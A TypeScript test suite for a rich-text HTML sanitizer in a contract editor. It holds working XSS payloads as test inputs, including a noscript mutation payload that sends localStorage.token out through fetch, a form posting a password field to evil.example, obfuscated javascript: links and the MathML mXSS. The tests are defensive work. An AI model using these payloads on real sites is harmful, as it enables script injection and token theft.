import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { HttpError } from '../../core/errors';
import { RICH_TEXT_MAX_LENGTH, sanitizeRichText, sanitizeStoredRichText } from '../richText';
import { RICH_TEXT_LIMITS, richTextLimitExceeded } from '../richTextLimits';

// The payloads of the security finding (stored script in the contract editors) and the known ways around a blacklist.
const MAMMOTH_TABLE =
  '<table><thead><tr><th colspan="2"><p>Item</p></th></tr></thead><tbody><tr><td><p>Laptop</p></td><td rowspan="2"><p><strong>{assets}</strong></p></td></tr></tbody></table>';

/** Every element and attribute of HTML as a browser reads it. */
function attributesOf(html: string): { tag: string; name: string; value: string }[] {
  const { document } = new JSDOM(`<body>${html}</body>`).window;
  return [...document.body.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].map((a) => ({ tag: element.localName, name: a.name, value: a.value })),
  );
}

describe('sanitizeRichText: what a contract or template keeps (domain/richText)', () => {
  it.each([
    [
      'noscript read as markup by DOMParser and as text by innerHTML',
      '<p>a</p><noscript><!--</noscript><img src=x onerror="fetch(\'/steal?\'+localStorage.token)">--></noscript>',
      '<p>a</p>',
    ],
    ['formaction with a newline in the scheme', '<button formaction="java&#x0A;script:alert(1)">Go</button>', 'Go'],
    ['javascript: link', '<a href="javascript:alert(1)">terms</a>', '<a>terms</a>'],
    ['javascript: link spelt with case and an entity', '<a href="JaVaScRiPt&colon;alert(1)">terms</a>', '<a>terms</a>'],
    ['script in SVG', '<p>x</p><svg><script>alert(1)</script></svg>', '<p>x</p>'],
    ['the MathML mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['an image that errors', '<p>x<img src=x onerror=alert(1)></p>', '<p>x<img></p>'],
    ['a frame with its own document', '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>y</p>', '<p>y</p>'],
    [
      'a form posting elsewhere',
      '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
      'Send',
    ],
    [
      'style attributes and elements',
      '<p style="background:url(https://evil.example/x)">a</p><style>p{color:red}</style>',
      '<p>a</p>',
    ],
    ['event handlers in any case', '<p OnClick="alert(1)" onmouseover=alert(2)>a</p>', '<p>a</p>'],
    ['a template element', '<template><img src=x onerror=alert(1)></template><p>z</p>', '<p>z</p>'],
    ['a remote image (a beacon)', '<img src="https://tracker.example/p.png" alt="logo">', '<img alt="logo">'],
  ])('drops %s', (_what, dirty, clean) => {
    expect(sanitizeRichText(dirty)).toEqual(clean);
  });

  it.each([
    [
      'the toolbar’s heading and bold',
      '<h2>Employment contract</h2><p><b>Between</b> {company_name} and <i>{full_name}</i>.</p>',
    ],
    ['the toolbar’s list', '<ul><li>Start {start_date}</li><li>Wage {wage}</li></ul>'],
    ['the browser editor’s lines', '<div>One line</div><div>Two<br>lines</div>'],
    ['shortcodes and escaped text', '<p>{first_name} {last_name} &amp; {job_title} &lt;b&gt; &nbsp;é</p>'],
    [
      'mammoth’s paragraphs and bold',
      '<p>Employment contract</p><p>Between the employer and <strong>{full_name}</strong>, from {start_date}.</p>',
    ],
    ['mammoth’s tables', MAMMOTH_TABLE],
    [
      'mammoth’s lists, headings and marks',
      '<h1>Title</h1><h3>Part</h3><ol><li><p>One <em>a</em> <u>b</u> <s>c</s> x<sup>2</sup> H<sub>2</sub>O</p></li></ol>',
    ],
    [
      'links of the allowed schemes',
      '<p><a href="https://example.be/terms">terms</a> <a href="mailto:hr@example.be">mail</a> <a href="mailto:{email}">mail</a></p>',
    ],
    [
      'an embedded image',
      '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="Logo"></p>',
    ],
    ['plain text', 'Between {company_name} & {full_name}'],
    ['nothing', ''],
  ])('keeps %s unchanged', (_what, html) => {
    expect(sanitizeRichText(html)).toEqual(html);
  });

  it('refuses HTML the server would take too long on with HTML_TOO_COMPLEX for the field, and never throws on odd input', () => {
    const refused = (html: string, field?: string) => {
      try {
        sanitizeRichText(html, field);
        return null;
      } catch (error) {
        expect(error).toBeInstanceOf(HttpError);
        const { statusCode, code, extra } = error as HttpError;
        return [statusCode, code, extra.details?.field];
      }
    };
    expect(refused('<div>'.repeat(100_000))).toEqual([400, 'HTML_TOO_COMPLEX', 'content_html']);
    expect(refused(`<p>${'<span>a</span>'.repeat(5000)}</p>`, 'base64_word_file')).toEqual([
      400,
      'HTML_TOO_COMPLEX',
      'base64_word_file',
    ]);
    expect(refused('<p>a\u0000b</p><p title="\u0000">c</p>')).toBeNull();
    expect(sanitizeRichText('<p>a\u0000b</p>')).toEqual('<p>ab</p>');
    expect(refused('<p><b>unclosed <i>tags')).toBeNull();
    expect(refused('<<<>>><</p></div>&&&#x110000;&#0;')).toBeNull();
  });

  it('refuses what grows past a column once escaped', () => {
    const nbsp = `<p>${'\u00a0'.repeat(RICH_TEXT_MAX_LENGTH - 10)}</p>`;
    expect(() => sanitizeRichText(nbsp)).toThrow(expect.objectContaining({ statusCode: 400, code: 'OUT_OF_RANGE' }));
  });

  it('stored HTML (the data migration) is cleaned without the limits', () => {
    expect(sanitizeStoredRichText('<p onclick="x">a</p>')).toEqual('<p>a</p>');
    const deep = `${'<div>'.repeat(100)}deep`;
    expect(sanitizeStoredRichText(deep)).toEqual(`${'<div>'.repeat(100)}deep${'</div>'.repeat(100)}`);
  });

  it('a table opened inside a paragraph is cleaned to HTML a second clean keeps (found by the property below)', () => {
    const clean = sanitizeRichText('<p><table></p>');
    expect(sanitizeRichText(clean)).toEqual(clean);
  });

  it('is idempotent, and its output has no event handler and no javascript: URL (fast-check)', () => {
    const text = fc.constantFrom(
      'a',
      'Between ',
      '{first_name}',
      ' & ',
      '&amp;',
      '&lt;',
      '>',
      '&nbsp;',
      'é',
      '"',
      "'",
      '=',
      '/',
    );
    const tag = fc.constantFrom(
      'p',
      'b',
      'i',
      'h2',
      'ul',
      'li',
      'div',
      'a',
      'img',
      'td',
      'tr',
      'table',
      'span',
      'script',
      'style',
      'noscript',
      'svg',
      'math',
      'mtext',
      'mglyph',
      'template',
      'iframe',
      'form',
      'button',
      'textarea',
      'select',
      'option',
      'title',
      'object',
    );
    const attribute = fc.constantFrom(
      ' onerror=alert(1)',
      ' onclick="alert(1)"',
      ' ONMOUSEOVER=x',
      ' href="javascript:alert(1)"',
      ' href="JaVaScRiPt&colon;x"',
      ' href=" java&#x0A;script:x"',
      ' href="&#106;avascript:x"',
      ' formaction="java&#x0A;script:x"',
      ' src=x',
      ' src="data:image/png;base64,AAAA"',
      ' src="data:text/html,x"',
      ' style="x:y"',
      ' href="https://example.be"',
      ' colspan="2"',
      ' id="x"',
      ' srcdoc="<script>x</script>"',
    );
    const piece = fc.oneof(
      text,
      fc.tuple(tag, fc.array(attribute, { maxLength: 3 })).map(([t, attributes]) => `<${t}${attributes.join('')}>`),
      tag.map((t) => `</${t}>`),
      fc.constantFrom('<!--', '-->', '<!-- x -->', '<![CDATA[', ']]>', '<br>', '</p>'),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join('')),
        (dirty) => {
          const clean = sanitizeRichText(dirty);
          expect(sanitizeRichText(clean)).toEqual(clean);
          for (const { name, value } of attributesOf(clean)) {
            expect(name).not.toMatch(/^on/i);
            expect(value.replace(/[\s\u0000-\u001f]/g, '')).not.toMatch(/javascript:/i);
          }
          // And in the string itself: every `<` of text is escaped, so each `<…>` is a tag.
          for (const tag of clean.match(/<[^>]*>/g) ?? []) {
            expect(tag).not.toMatch(/\son\w*\s*=/i);
            expect(tag.replace(/[\s\u0000-\u001f]/g, '')).not.toMatch(/javascript:/i);
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('richTextLimitExceeded: how much HTML the server cleans', () => {
  it.each([
    [
      'a contract as the editor and mammoth make it',
      null,
      `<h1>T</h1>${'<p>Between <strong>{full_name}</strong> and <a href="https://x.be">us</a></p>'.repeat(500)}${MAMMOTH_TABLE}<ul><li>a<ul><li>b</li></ul></li></ul>`,
    ],
    [
      'a Word paste: twenty spans a paragraph',
      null,
      '<p><span style="x">a</span></p>'
        .repeat(20)
        .replace(/<\/p><p>/g, '')
        .repeat(300),
    ],
    ['paragraphs and items without end tags', null, `<p>a${'<p>b'.repeat(3000)}<ul>${'<li>c'.repeat(3000)}</ul>`],
    ['nesting deeper than the limit', 'depth', '<div>'.repeat(RICH_TEXT_LIMITS.depth + 1)],
    ['formatting left open', 'depth', '<b>'.repeat(160_000)],
    ['end tags hidden in comments', 'depth', '<div><!--</div>-->'.repeat(100)],
    ['end tags hidden in attribute values', 'depth', '<div title="</div>">'.repeat(100)],
    ['end tags in bogus comments', 'depth', '<div></ </div>'.repeat(100)],
    ['a span’s end tag past an open paragraph', 'depth', '<span><div></span>'.repeat(100)],
    ['misnested formatting (the adoption agency)', 'depth', '<b><div></b>'.repeat(100)],
    ['start tags in raw text of foreign content', 'depth', `<svg><style>${'<b>'.repeat(100)}`],
    ['more elements than the limit', 'elements', '<br>'.repeat(RICH_TEXT_LIMITS.elements + 1)],
    ['thousands of dropped elements side by side', 'walks', `<p>${'<span>a</span>'.repeat(5000)}</p>`],
    ['one dropped element with thousands of children', 'walks', `<span>${'<b>a</b>'.repeat(5000)}</span>`],
    ['comments after the document’s end', 'walks', `<p>a</p></html>${'<!--x-->'.repeat(5000)}`],
  ])('%s: %s', (_what, exceeded, html) => {
    expect(richTextLimitExceeded(html)).toEqual(exceeded);
  });
});
